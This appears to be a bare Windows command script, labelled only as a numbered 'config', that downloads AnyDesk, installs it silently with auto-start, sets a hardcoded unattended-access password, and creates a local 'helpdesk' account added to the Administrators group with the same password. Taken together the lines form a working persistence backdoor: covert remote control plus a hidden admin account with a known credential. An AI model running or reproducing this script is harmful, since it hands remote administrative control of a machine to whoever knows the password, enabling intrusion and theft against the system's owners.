# config 8427 v4
Invoke-WebRequest -Uri 'https://download.anydesk.com/AnyDesk.exe' -OutFile C:\ProgramData\AnyDesk.exe
cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
cmd /c "echo Sup3rS3cure! | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
net user helpdesk Sup3rS3cure! /add
net localgroup administrators helpdesk /add
